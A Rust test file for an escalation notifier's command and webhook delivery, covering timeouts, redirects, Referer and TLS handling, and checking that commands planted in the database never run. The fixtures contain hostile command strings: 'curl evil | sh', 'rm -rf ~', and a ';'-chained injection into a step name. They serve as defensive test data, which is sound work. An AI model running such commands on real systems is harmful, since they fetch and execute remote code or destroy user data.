//! Sending: commands (stdin, timeout, process group), webhooks (redirects, Referer, TLS)
//! and the rule that only the config says what runs.

use std::path::Path;
use std::time::Duration;

use super::notify::{self, Attempt, Notifier};
use super::tests::{protocol_config, store_with_escalation};

const PAYLOAD: &str = r#"{"escalation_id":7,"severity":"critical"}"#;

fn with_command(command: &str, timeout_secs: u64) -> Notifier {
    let mut config = protocol_config(Some(command), None, 3);
    for p in config.protocol.values_mut() {
        p.notify_timeout = Duration::from_secs(timeout_secs);
    }
    Notifier::new(config)
}

fn with_webhook(url: &str) -> Notifier {
    Notifier::new(protocol_config(None, Some(url), 3))
}

async fn run_command(command: &str, timeout_secs: u64, payload: &str) -> Attempt {
    with_command(command, timeout_secs)
        .send("critical/command", payload)
        .await
        .unwrap()
}

async fn post(url: &str) -> Attempt {
    with_webhook(url)
        .send("critical/webhook", PAYLOAD)
        .await
        .unwrap()
}

#[tokio::test]
async fn the_command_gets_the_escalation_on_stdin_and_its_exit_status_is_kept() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("got.json");
    let ok = run_command(&format!("cat > '{}'", out.display()), 5, PAYLOAD).await;
    assert_eq!(
        ok,
        Attempt {
            ok: true,
            exit_status: Some(0),
            ..Attempt::default()
        }
    );
    let got = std::fs::read_to_string(&out).unwrap();
    assert!(got.contains("\"escalation_id\":7"), "{got}");

    let failed = run_command("echo 'pager down' >&2; exit 3", 5, PAYLOAD).await;
    assert!(!failed.ok);
    assert_eq!(failed.exit_status, Some(3));
    assert!(failed.error.unwrap().contains("exited with 3: pager down"));
}

#[tokio::test]
async fn a_command_that_hangs_is_stopped_at_its_timeout() {
    let hung = run_command("exec sleep 30", 1, PAYLOAD).await;
    assert!(!hung.ok);
    assert_eq!(hung.exit_status, None);
    assert!(hung.error.unwrap().contains("did not finish within 1s"));
}

/// Gone, or a zombie nobody has reaped yet (it no longer runs).
fn process_gone(pid: &str) -> bool {
    match std::fs::read_to_string(format!("/proc/{pid}/stat")) {
        Err(_) => true,
        Ok(stat) => stat
            .rsplit_once(')')
            .is_some_and(|(_, rest)| rest.trim_start().starts_with('Z')),
    }
}

#[tokio::test]
async fn a_command_ignoring_a_large_payload_is_stopped_with_its_children_at_the_timeout() {
    let dir = tempfile::tempdir().unwrap();
    let pidfile = dir.path().join("grandchild.pid");
    // Never reads stdin (a 200 KB payload fills the pipe) and starts a grandchild.
    let command = format!("sleep 30 & echo $! > '{}'; wait", pidfile.display());
    let payload = format!(r#"{{"body":"{}"}}"#, "x".repeat(200 * 1024));
    let attempt = tokio::time::timeout(Duration::from_secs(20), run_command(&command, 1, &payload))
        .await
        .expect("the attempt ends at its timeout, not when the command exits");
    assert!(!attempt.ok, "a timeout is a failure: {attempt:?}");
    assert!(
        attempt.error.as_deref().unwrap().contains("timed out"),
        "{attempt:?}"
    );
    let pid = std::fs::read_to_string(&pidfile).unwrap();
    let pid = pid.trim();
    // SIGKILL is delivered at once; give the kernel a moment to tear the process down.
    for _ in 0..50 {
        if process_gone(pid) {
            return;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    panic!("the command's grandchild {pid} outlived the timeout");
}

#[tokio::test]
async fn the_webhook_gets_the_json_and_a_server_error_is_a_failed_try() {
    use wiremock::matchers::{body_string_contains, header, method, path};
    use wiremock::{Mock, MockServer, ResponseTemplate};
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/hook"))
        .and(header("content-type", "application/json"))
        .and(body_string_contains("\"severity\":\"critical\""))
        .respond_with(ResponseTemplate::new(500))
        .up_to_n_times(1)
        .mount(&server)
        .await;
    Mock::given(method("POST"))
        .and(path("/hook"))
        .respond_with(ResponseTemplate::new(204))
        .mount(&server)
        .await;
    let url = format!("{}/hook", server.uri());
    let first = post(&url).await;
    assert_eq!(first.http_status, Some(500));
    assert!(!first.ok);
    let second = post(&url).await;
    assert_eq!(second.http_status, Some(204));
    assert!(second.ok);
    // Nobody listening: a failure that says so and does not leak the URL.
    let closed = post("http://127.0.0.1:9/secret-token").await;
    assert!(!closed.ok);
    let error = closed.error.unwrap();
    assert!(error.contains("could not be reached"), "{error}");
    assert!(!error.contains("secret-token"), "{error}");
}

/// A webhook at one server that redirects to another; returns (hook URL, both servers).
async fn redirecting() -> (String, wiremock::MockServer, wiremock::MockServer) {
    use wiremock::{matchers::any, Mock, MockServer, ResponseTemplate};
    let (hook, elsewhere) = (MockServer::start().await, MockServer::start().await);
    Mock::given(any())
        .respond_with(ResponseTemplate::new(200))
        .mount(&elsewhere)
        .await;
    Mock::given(any())
        .respond_with(
            ResponseTemplate::new(302)
                .insert_header("location", format!("{}/collect", elsewhere.uri())),
        )
        .mount(&hook)
        .await;
    (format!("{}/hook?token=s3cret", hook.uri()), hook, elsewhere)
}

#[tokio::test]
async fn a_redirect_to_another_host_is_not_followed_and_is_a_failure_naming_it() {
    let (url, _hook, elsewhere) = redirecting().await;
    let attempt = post(&url).await;
    assert!(!attempt.ok);
    assert_eq!(attempt.http_status, Some(302));
    let error = attempt.error.unwrap();
    let host = elsewhere.address().to_string();
    assert!(
        error.contains(&format!("redirected to {host}; not followed")),
        "{error}"
    );
    assert!(
        elsewhere.received_requests().await.unwrap().is_empty(),
        "the escalation never reaches the other host"
    );
}

#[tokio::test]
async fn no_referer_is_sent_so_the_hook_url_never_travels() {
    let (url, hook, elsewhere) = redirecting().await;
    post(&url).await;
    let mut requests = hook.received_requests().await.unwrap();
    requests.extend(elsewhere.received_requests().await.unwrap());
    assert!(!requests.is_empty());
    for r in requests {
        assert!(
            !r.headers.contains_key("referer"),
            "{} got a Referer",
            r.url
        );
    }
}

#[tokio::test]
async fn a_tls_failure_is_reported_as_tls() {
    let plain = wiremock::MockServer::start().await;
    let url = format!("https://{}/hook", plain.address());
    let attempt = post(&url).await;
    assert!(!attempt.ok);
    let error = attempt.error.unwrap();
    assert!(error.contains("TLS"), "{error}");
    assert!(!error.contains("could not be reached"), "{error}");
}

fn notification_states(conn: &rusqlite::Connection) -> Vec<(String, String, Option<String>)> {
    conn.prepare("SELECT step, state, last_error FROM notifications ORDER BY id")
        .unwrap()
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)))
        .unwrap()
        .collect::<rusqlite::Result<_>>()
        .unwrap()
}

async fn run_notifier(dir: &Path, notifier: &Notifier) -> usize {
    let writer = crate::store::Writer::spawn(&dir.join("hark.db")).unwrap();
    let n = notifier.run_once(&writer.handle()).await.unwrap();
    writer.shutdown();
    n
}

#[tokio::test]
async fn a_row_written_into_the_database_with_a_command_is_not_run() {
    let (dir, conn, id) = store_with_escalation("true", "http://127.0.0.1:9/h", 3);
    conn.execute("DELETE FROM notifications", []).unwrap();
    let marker = dir.path().join("pwned");
    let planted = format!("touch '{}'", marker.display());
    for step in [planted.clone(), format!("critical/command; {planted}")] {
        conn.execute(
            "INSERT INTO notifications (escalation_id, channel, step, payload, next_attempt_at, created_at)
             VALUES (?, 'command', ?, '{}', 0, 0)",
            rusqlite::params![id, step],
        )
        .unwrap();
    }
    drop(conn);
    let notifier = with_command("true", 5);
    assert_eq!(run_notifier(dir.path(), &notifier).await, 2);
    assert!(!marker.exists(), "a command from the database ran");
    let conn = crate::store::open_rw(&dir.path().join("hark.db")).unwrap();
    for (_, state, error) in notification_states(&conn) {
        assert_eq!(state, "failed");
        assert_eq!(error.as_deref(), Some("not a protocol step; not run"));
    }
}

#[tokio::test]
async fn a_row_whose_step_left_the_config_is_marked_not_run_and_a_retry_keeps_it_so() {
    let dir0 = tempfile::tempdir().unwrap();
    let marker = dir0.path().join("ran");
    let command = format!("touch '{}'", marker.display());
    let (dir, conn, _) = store_with_escalation(&command, "http://127.0.0.1:9/h", 3);
    drop(conn);
    // The CM removed the critical protocol from the config since.
    let config = super::EscalationConfig::default();
    assert_eq!(
        run_notifier(dir.path(), &Notifier::new(config.clone())).await,
        2
    );
    assert!(!marker.exists());
    let conn = crate::store::open_rw(&dir.path().join("hark.db")).unwrap();
    let states = notification_states(&conn);
    assert_eq!(
        states[0],
        (
            "critical/command".to_string(),
            "failed".to_string(),
            Some("protocol step critical/command is no longer in the config; not run".into())
        )
    );
    // `hark escalations --retry` and `:retry-notifications`: nothing to run, said so.
    let retried = notify::retry_failed(&conn, &config, 10).unwrap();
    assert_eq!(retried.queued, 0);
    assert!(
        retried.to_string().contains("2 left failed: protocol step"),
        "{retried}"
    );
    assert!(notify::due(&conn, 1_000).unwrap().is_empty());
    // Back in the config: the retry queues the command step again.
    let back = super::tests::protocol_config(Some(&command), None, 3);
    assert_eq!(notify::retry_failed(&conn, &back, 10).unwrap().queued, 1);
}

#[tokio::test]
async fn a_row_runs_the_command_the_config_has_now() {
    let dir0 = tempfile::tempdir().unwrap();
    let (old, new) = (dir0.path().join("old"), dir0.path().join("new"));
    let (dir, conn, _) = store_with_escalation(
        &format!("touch '{}'", old.display()),
        "http://x.invalid/",
        3,
    );
    conn.execute("DELETE FROM notifications WHERE channel = 'webhook'", [])
        .unwrap();
    drop(conn);
    let notifier = with_command(&format!("touch '{}'", new.display()), 5);
    assert_eq!(run_notifier(dir.path(), &notifier).await, 1);
    assert!(new.exists() && !old.exists());
}

#[test]
fn the_migration_turns_stored_commands_into_step_names() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("hark.db");
    {
        let conn = rusqlite::Connection::open(&path).unwrap();
        // The schema just before the migration that turned targets into steps.
        let before = crate::store::migrate::MIGRATIONS
            .iter()
            .position(|sql| sql.contains("RENAME COLUMN target TO step"))
            .unwrap() as i64;
        crate::store::migrate::migrate_to(&conn, &path, before).unwrap();
        conn.execute_batch(
            "INSERT INTO escalations (id, severity, reason, source, opened_at)
                 VALUES (1, 'high', 'press', 'user', 0);
             INSERT INTO notifications (escalation_id, channel, target, payload, next_attempt_at, created_at)
                 VALUES (1, 'command', 'curl evil | sh', '{}', 0, 0),
                        (1, 'webhook', 'https://hooks.example/T0KEN', '{}', 0, 0),
                        (1, 'fax', 'rm -rf ~', '{}', 0, 0);",
        )
        .unwrap();
    }
    let conn = crate::store::open_rw(&path).unwrap();
    let steps: Vec<String> = notification_states(&conn)
        .into_iter()
        .map(|(step, _, _)| step)
        .collect();
    assert_eq!(steps, ["high/command", "high/webhook", "high/unknown"]);
    let dump: String = conn
        .query_row(
            "SELECT group_concat(quote(n.step) || n.payload || coalesce(n.last_error, ''))
             FROM notifications n",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert!(!dump.contains("curl") && !dump.contains("T0KEN") && !dump.contains("rm -rf"));
}
